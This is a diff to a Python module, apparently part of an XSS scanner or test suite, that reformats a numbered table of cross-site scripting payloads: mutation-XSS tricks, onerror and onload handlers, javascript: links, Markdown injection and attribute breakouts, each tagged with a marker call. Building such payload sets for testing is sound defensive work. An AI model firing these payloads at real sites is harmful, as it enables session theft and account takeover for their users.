@@ -103,8 +103,12 @@ _TABLE: tuple[tuple[str, str, dict[str, object]], ...] = (
 	("click anywhere", '<b onclick=@ style="position:fixed;inset:0">x</b>', {"click": True}),
 	("mXSS by math", "<math><mtext></p><style><!--</style><img src onerror=@>", {"alone": True}),
 	("mXSS by noscript", '<noscript><p title="</noscript><svg onload=@>">', {"alone": True}),
-	("mXSS by svg style", "<svg></p><style><a id=\"</style><img src onerror=@>\">", {"alone": True}),
-	("template element", f"<template shadowrootmode=open><img src={_G} onerror=@></template>", {"alone": True}),
+	("mXSS by svg style", '<svg></p><style><a id="</style><img src onerror=@>">', {"alone": True}),
+	(
+		"template element",
+		f"<template shadowrootmode=open><img src={_G} onerror=@></template>",
+		{"alone": True},
+	),
 	("JSON list", f'["<img src={_G} onerror=@>"]', {"alone": True}),
 	("JSON object", '{"a": "<svg onload=@>"}', {"alone": True}),
 	("JSON text", '"<svg onload=@><script>@</script>"', {"alone": True}),
@@ -117,7 +121,11 @@ _TABLE: tuple[tuple[str, str, dict[str, object]], ...] = (
 	("out of a tag", '"><svg onload=@>', {"sink": "attribute"}),
 	("out of single quotes", "' autofocus onfocus=@ x='", {"sink": "single", "alone": True}),
 	("script address", "javascript:@", {"sink": "href", "alone": True, "click": True}),
-	("script address as a web site", "javascript://example.com/%0a@", {"sink": "href", "alone": True, "click": True}),
+	(
+		"script address as a web site",
+		"javascript://example.com/%0a@",
+		{"sink": "href", "alone": True, "click": True},
+	),
 	("entities written twice", f"&lt;img src={_G} onerror=@&gt;", {"sink": "markdown", "alone": True}),
 	("Markdown link", "[x](javascript:@)", {"sink": "markdown", "click": True, "alone": True}),
 	("Markdown image", '![x](x"onerror="@)', {"sink": "markdown", "alone": True}),
@@ -127,8 +135,18 @@ _TABLE: tuple[tuple[str, str, dict[str, object]], ...] = (
 	("template in a text", "${@}{{@}}<%= @ %>", {"sink": "template", "alone": True}),
 )
 PAYLOADS = tuple(
-	Payload(number, kind, text.replace("@keyframes", "\0").replace("@example", "\1").replace("@", f"X({number})")
-		.replace("#.js", f"{number}.js").replace("(#)", f"({number})").replace("\0", "@keyframes").replace("\1", "@example"), **more)
+	Payload(
+		number,
+		kind,
+		text.replace("@keyframes", "\0")
+		.replace("@example", "\1")
+		.replace("@", f"X({number})")
+		.replace("#.js", f"{number}.js")
+		.replace("(#)", f"({number})")
+		.replace("\0", "@keyframes")
+		.replace("\1", "@example"),
+		**more,
+	)
 	for number, (kind, text, more) in enumerate(_TABLE, start=1)
 )
 
